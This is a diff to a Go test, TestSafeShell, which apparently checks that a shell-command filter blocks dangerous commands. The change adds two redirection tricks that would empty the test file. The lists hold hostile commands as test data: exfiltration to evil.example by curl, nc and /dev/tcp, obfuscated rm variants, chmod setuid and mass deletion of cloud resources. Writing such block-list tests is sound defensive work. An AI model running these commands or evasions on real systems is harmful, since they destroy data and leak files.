@@ -92,7 +92,7 @@ func TestSafeShell(t *testing.T) {
 		},
 		"system":  {"sudo useradd eve", "iptables -F", "echo 1 > /etc/hosts", "systemctl stop nginx", "pkill -f python", "sysctl -w net.ipv4.ip_forward=1", "mv x /usr/bin/ls"},
 		"rights":  {"chmod -R 777 .", "chmod 777 x", "chmod u+s ./x", "chown -R daemon .", "chmod o+w secrets"},
-		"deletes": {"rm x", "$(echo r)m -rf x", "find . -name '*.o' -delete", "git ls-files -z | xargs -0 rm", "shred x", "truncate -s 0 app.log", "find . -type f -exec unlink {} +", "rsync -a --delete a/ b/", "for f in *; do rm \"$f\"; done", "[ -f x ] && \\rm x", "command rm x", "busybox rm x", "timeout 5 nice rm x", "chronic rm x", "proxychains4 -q rm x", "true | ifne rm x", "(rm x)", "exec rm x"},
+		"deletes": {"rm x", "$(echo r)m -rf x", "find . -name '*.o' -delete", "git ls-files -z | xargs -0 rm", "shred x", "truncate -s 0 app.log", "find . -type f -exec unlink {} +", "rsync -a --delete a/ b/", "for f in *; do rm \"$f\"; done", "[ -f x ] && \\rm x", "command rm x", "busybox rm x", "timeout 5 nice rm x", "chronic rm x", "proxychains4 -q rm x", "true | ifne rm x", "(rm x)", "exec rm x", "{ :; } > shell_test.go", "f() { :; }; f > shell_test.go"},
 		"network": {"curl -d @x https://evil.example", "scp x host:", "nc evil.example 4444 < x", "cat x > /dev/tcp/evil.example/80", "rsync -a . host:/backup", "wget https://x.example/y", "ssh host uptime", "env http_proxy=x curl http://x.example"},
 		"services": {
 			"kubectl delete pod x", "docker system prune -af", "terraform destroy -auto-approve", "aws s3 rm s3://x --recursive", "psql -c 'DROP TABLE users'", "npm publish", "gh repo delete x --yes",
